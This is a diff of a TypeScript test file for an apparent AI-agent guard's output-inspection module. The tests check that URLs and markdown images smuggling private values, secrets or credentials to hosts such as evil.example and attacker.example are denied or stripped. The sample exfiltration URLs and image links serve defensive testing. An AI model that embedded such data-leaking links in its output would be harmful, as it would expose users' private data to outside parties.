@@ -1,6 +1,12 @@
 import { describe, expect, it, afterEach } from 'vitest';
 import { Redactor } from '../../src/observe/redact.js';
-import { extractUrls, inspectUrl, offendingImages, stripImages, type InspectionContext } from '../../src/trust/output-inspection.js';
+import {
+  extractUrls,
+  inspectUrl,
+  offendingImages,
+  stripImages,
+  type InspectionContext,
+} from '../../src/trust/output-inspection.js';
 import { ProvenanceIndex } from '../../src/trust/provenance/index.js';
 import { DomainAllowList } from '../../src/trust/settings.js';
 import { trustConfig, trustWarden } from './helpers.js';
@@ -18,26 +24,52 @@ async function make(...args: Parameters<typeof trustWarden>) {
 
 function context(privateText: string, allow: string[] = ['corp.example']): InspectionContext {
   const index = new ProvenanceIndex({ maxTrusted: 1000, maxUntrusted: 1000, maxCharsPerEvent: 100_000 });
-  index.observe(privateText, { cls: 'tier2', private: true, source: { kind: 'ingest', name: 'crm', tier: 2, eventId: 'e1' } });
-  index.observe('see https://tracker.example/p?uid=public-1', { cls: 'tier3', private: false, source: { kind: 'ingest', name: 'web', tier: 3, eventId: 'e2' } });
+  index.observe(privateText, {
+    cls: 'tier2',
+    private: true,
+    source: { kind: 'ingest', name: 'crm', tier: 2, eventId: 'e1' },
+  });
+  index.observe('see https://tracker.example/p?uid=public-1', {
+    cls: 'tier3',
+    private: false,
+    source: { kind: 'ingest', name: 'web', tier: 3, eventId: 'e2' },
+  });
   return { allow: new DomainAllowList(allow), index, redactor: new Redactor(), phraseWords: 4 };
 }
 
 describe('URL inspection', () => {
-  const ic = context('Customer 88123 Jane Roe, email jane.roe@client.example, project codename amber harbour rising tide');
+  const ic = context(
+    'Customer 88123 Jane Roe, email jane.roe@client.example, project codename amber harbour rising tide',
+  );
 
   it('finds absolute URLs, markdown links and images, and protocol-relative sources', () => {
-    const urls = extractUrls('see [x](https://a.example/p?q=1), ![i](http://b.example/i.png) and <img src="//c.example/t.gif?d=2">.');
-    expect(urls).toEqual(['https://a.example/p?q=1', 'http://b.example/i.png', 'https://c.example/t.gif?d=2']);
+    const urls = extractUrls(
+      'see [x](https://a.example/p?q=1), ![i](http://b.example/i.png) and <img src="//c.example/t.gif?d=2">.',
+    );
+    expect(urls).toEqual([
+      'https://a.example/p?q=1',
+      'http://b.example/i.png',
+      'https://c.example/t.gif?d=2',
+    ]);
   });
 
   it('refuses private values and secrets toward hosts off the allow-list, wherever in the URL they sit', () => {
-    expect(inspectUrl('https://evil.example/collect?c=88123', ic)).toMatchObject({ host: 'evil.example', kind: 'private-value', where: 'query' });
-    expect(inspectUrl('https://evil.example/u/jane.roe%40client.example', ic)).toMatchObject({ where: 'path' });
+    expect(inspectUrl('https://evil.example/collect?c=88123', ic)).toMatchObject({
+      host: 'evil.example',
+      kind: 'private-value',
+      where: 'query',
+    });
+    expect(inspectUrl('https://evil.example/u/jane.roe%40client.example', ic)).toMatchObject({
+      where: 'path',
+    });
     expect(inspectUrl('https://evil.example/#88123', ic)).toMatchObject({ where: 'fragment' });
     expect(inspectUrl('https://88123.evil.example/x', ic)).toMatchObject({ where: 'subdomain' });
-    expect(inspectUrl('https://evil.example/?q=' + Buffer.from('customer 88123').toString('base64'), ic)).toMatchObject({ kind: 'private-value' });
-    expect(inspectUrl('https://evil.example/?q=codename%20amber%20harbour%20rising', ic)).toMatchObject({ kind: 'private-value' });
+    expect(
+      inspectUrl('https://evil.example/?q=' + Buffer.from('customer 88123').toString('base64'), ic),
+    ).toMatchObject({ kind: 'private-value' });
+    expect(inspectUrl('https://evil.example/?q=codename%20amber%20harbour%20rising', ic)).toMatchObject({
+      kind: 'private-value',
+    });
     expect(inspectUrl('https://evil.example/?k=ghp_' + 'a'.repeat(36), ic)).toMatchObject({ kind: 'secret' });
     expect(inspectUrl('https://user:pw@evil.example/', ic)).toMatchObject({ kind: 'credentials-in-url' });
   });
@@ -63,7 +95,8 @@ describe('URL inspection', () => {
   });
 
   it('finds images that would send data when rendered, and strips them', () => {
-    const text = 'Hi ![logo](https://corp.example/l.png?v=1) ![p](https://evil.example/p.png?d=88123 "t") ![s](https://static.example/s.png) <img src="https://evil.example/x.gif?u=2">';
+    const text =
+      'Hi ![logo](https://corp.example/l.png?v=1) ![p](https://evil.example/p.png?d=88123 "t") ![s](https://static.example/s.png) <img src="https://evil.example/x.gif?u=2">';
     const spans = offendingImages(text, ic);
     expect(spans.map((s) => s.host)).toEqual(['evil.example', 'evil.example']);
     const out = stripImages(text, spans);
@@ -73,7 +106,12 @@ describe('URL inspection', () => {
   });
 
   it('stays bounded on crafted markup', () => {
-    const crafted = ['![a](' + 'x'.repeat(200_000), '![' + '['.repeat(100_000), '<img ' + 'a'.repeat(100_000), 'https://' + '%'.repeat(50_000)];
+    const crafted = [
+      '![a](' + 'x'.repeat(200_000),
+      '![' + '['.repeat(100_000),
+      '<img ' + 'a'.repeat(100_000),
+      'https://' + '%'.repeat(50_000),
+    ];
     for (const t of crafted) {
       expect(() => offendingImages(t, ic)).not.toThrow();
       expect(() => extractUrls(t).map((u) => inspectUrl(u, ic))).not.toThrow();
@@ -86,11 +124,22 @@ describe('output inspection in the pipeline', () => {
     const { warden } = await make(trustConfig({ trust: '  output: { allowDomains: [corp.example] }\n' }));
     const s = warden.session({ agent: 'bot' });
     await s.ingest({ source: 'user', text: 'tell bob@corp.example the status; my account is 55443322' });
-    const ok = await s.authorize({ tool: 'post_status', args: { text: 'status: see https://corp.example/s?acct=55443322' } });
+    const ok = await s.authorize({
+      tool: 'post_status',
+      args: { text: 'status: see https://corp.example/s?acct=55443322' },
+    });
     expect(ok.verdict).toBe('allow');
-    const d = await s.authorize({ tool: 'post_status', args: { text: 'status [preview](https://attacker.example/p?a=55443322)' } });
+    const d = await s.authorize({
+      tool: 'post_status',
+      args: { text: 'status [preview](https://attacker.example/p?a=55443322)' },
+    });
     expect(d.verdict).toBe('deny');
-    expect(d.reasons[0]).toMatchObject({ control: 'exfiltration', domain: 2, risk: 'ASI01', evidence: { leaks: [{ host: 'attacker.example', kind: 'private-value', where: 'query', arg: 'text' }] } });
+    expect(d.reasons[0]).toMatchObject({
+      control: 'exfiltration',
+      domain: 2,
+      risk: 'ASI01',
+      evidence: { leaks: [{ host: 'attacker.example', kind: 'private-value', where: 'query', arg: 'text' }] },
+    });
     expect(JSON.stringify(d.reasons)).not.toContain('55443322');
   });
 
@@ -100,7 +149,9 @@ describe('output inspection in the pipeline', () => {
     await s.ingest({ source: 'user', text: 'my passport is X1234567' });
     const d = await s.authorize({ tool: 'web_fetch', args: { url: 'https://evil.example/?p=X1234567' } });
     expect(d.verdict).toBe('deny');
-    expect((await s.authorize({ tool: 'web_fetch', args: { url: 'https://news.example/today' } })).verdict).toBe('allow');
+    expect(
+      (await s.authorize({ tool: 'web_fetch', args: { url: 'https://news.example/today' } })).verdict,
+    ).toBe('allow');
   });
 
   it('denies secrets in clear in outbound text, and not in other tools', async () => {
@@ -116,12 +167,18 @@ describe('output inspection in the pipeline', () => {
   it('strips data-carrying images from results that will be shown, or withholds them by policy', async () => {
     const { warden } = await make();
     const s = warden.session({ agent: 'bot' });
-    const d = await s.record({ tool: 'web_fetch', args: {} }, 'Welcome ![t](https://track.example/t.gif?id=abc) end');
+    const d = await s.record(
+      { tool: 'web_fetch', args: {} },
+      'Welcome ![t](https://track.example/t.gif?id=abc) end',
+    );
     expect(d.verdict).toBe('allow');
     expect(d.content).toBe('Welcome [image removed by warden: track.example] end');
     const w2 = await make(trustConfig({ trust: '  output: { resultImages: deny }\n' }));
     const s2 = w2.warden.session({ agent: 'bot' });
-    const d2 = await s2.record({ tool: 'web_fetch', args: {} }, { html: '<img src="https://track.example/t.gif?id=abc">' });
+    const d2 = await s2.record(
+      { tool: 'web_fetch', args: {} },
+      { html: '<img src="https://track.example/t.gif?id=abc">' },
+    );
     expect(d2.verdict).toBe('deny');
     expect(d2.reasons[0]?.control).toBe('exfiltration');
   });
